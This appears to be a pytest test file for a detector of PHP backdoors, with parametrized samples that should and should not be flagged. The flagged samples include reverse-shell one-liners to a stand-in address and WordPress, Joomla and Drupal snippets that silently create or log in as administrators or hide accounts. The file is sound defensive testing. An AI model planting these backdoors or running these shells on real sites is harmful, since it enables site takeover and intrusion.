"""Ways back in that no data of a visitor shows. The samples are ours, and inert."""

from __future__ import annotations

import pytest

from pratique.content.php.back_door import back_doors
from pratique.content.php.program import Program
from pratique.content.php.syntax import parse


def marks(source: str) -> list[str]:
    return [one.mark for one in back_doors(Program(parse(b"<?php " + source.encode())))]


@pytest.mark.parametrize(
    ("source", "mark"),
    [
        ("wp_create_user('a', 'b1c2', 'a@b.example');", "php-grants-account"),
        (
            "$u = wp_insert_user(['user_login' => 'a', 'user_pass' => 'b', 'role' => 'x']);",
            "php-grants-account",
        ),
        (
            "$d = array('user_login' => 'a', 'user_pass' => 'b'); wp_insert_user($d);",
            "php-grants-account",
        ),
        ("if (isset($_GET['x'])) { wp_set_auth_cookie(1); }", "php-grants-account"),
        ("wp_set_auth_cookie($_GET['id']);", "php-grants-account"),
        (
            "add_action('pre_user_query', 'f'); $q->query_where .= \" AND user_login != 'x'\";",
            "php-hides-account",
        ),
        (
            "$s = fsockopen($h, 443); proc_open('/bin/sh -i', [$s, $s, $s], $p);",
            "php-shell-calls-out",
        ),
        (
            "exec(\"/bin/bash -c 'nohup setsid bash -i > /dev/tcp/192.0.2.7/1337 0>&1'\");",
            "php-shell-calls-out",
        ),
        ("$c = 'nc -e /bin/sh 192.0.2.7 443'; shell_exec($c);", "php-shell-calls-out"),
        ("system('bash -i >& /dev/tcp/192.0.2.7/4 0>&1');", "php-shell-calls-out"),
        ("$a = `bash -i >& /dev/tcp/192.0.2.7/4 0>&1`;", "php-shell-calls-out"),
        (
            "$i = wp_create_user($_GET['u'], $_GET['p']); $u->set_role('administrator');",
            "php-grants-account",
        ),
        (
            "add_action('init', function () { wp_insert_user(['user_login' => 'a', "
            "'user_pass' => $_COOKIE['p'], 'role' => 'administrator']); });",
            "php-grants-account",
        ),
        (
            "$u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID);",
            "php-grants-account",
        ),
        (
            "$u = get_user_by('login', $_GET['u']); wp_set_auth_cookie($u->ID);",
            "php-grants-account",
        ),
        (
            "$u = new JUser; $u->bind(['username' => 'a', 'password' => 'b', 'groups' => ['8']]);",
            "php-grants-account",
        ),
        (
            "user_save(null, array('name' => 'a', 'pass' => 'b', 'roles' => array(3 => "
            "'administrator')));",
            "php-grants-account",
        ),
        (
            "add_action('pre_user_query', function ($q) { $q->query_where .= ' AND ID<>7'; });",
            "php-hides-account",
        ),
        ("$s = socket_connect($k, $h, 1); $p = popen('cmd.exe', 'w');", "php-shell-calls-out"),
    ],
)
def test_points_at(source, mark):
    assert marks(source) == [mark]


@pytest.mark.parametrize(
    "source",
    [
        "wp_create_user($name, $password, $mail);",
        # commands that a site runs itself
        "exec('convert -version'); system(\"nc -z localhost 11211 && echo yes\"); $a = `git log`;",
        "shell_exec('/bin/bash -c \"mysqldump db | gzip > /srv/db.gz\"');",
        "exec('(exec 3<>/dev/tcp/127.0.0.1/6379) && echo open');",
        # somebody changes his own password, which he knows
        "$r = new COM('WinNT:'); $u = $r->OpenDSObject('WinNT://h/' . $n . ',user', $n, $old, 1);"
        " $u->ChangePassword($old, $new);",
        "wp_insert_user(['user_login' => $name, 'user_pass' => wp_generate_password()]);",
        "wp_insert_user($user);",
        "wp_set_auth_cookie($user->ID, $remember);",
        "add_action('pre_user_query', 'only_authors');",
        "$s = fsockopen('mail.example', 25); fwrite($s, 'EHLO x');",
        "exec('/bin/sh script.sh');",
        "check_admin_referer('a'); wp_create_user($_POST['u'], $_POST['p']); "
        "$u->set_role('administrator');",
        "wp_create_user($_POST['u'], $_POST['p']);",
        "$u = get_user_by('login', $_GET['u']); if (hash_equals($u->x, $_GET['token'])) "
        "{ wp_set_auth_cookie($u->ID); }",
        "$u = get_users(['role' => 'administrator']); if (wp_verify_nonce($_GET['n'])) "
        "{ wp_set_auth_cookie($u[0]->ID); }",
        "$u = get_user_by('id', $order->user); wp_set_auth_cookie($u->ID);",
        "user_save(null, array('name' => $n, 'pass' => user_password(), 'roles' => [3 => "
        "'administrator']));",
        "user_save($account, array('pass' => 'b'));",
        "class T extends TestCase { function a() { user_save(null, array('pass' => 'b', "
        "'roles' => ['administrator'])); } }",
        "$user->bind(['password' => $data['password'], 'groups' => [8]]); new JUser;",
        "$s = fsockopen($h, 25); exec('/usr/bin/convert a b');",
    ],
)
def test_leaves_alone(source):
    assert marks(source) == []
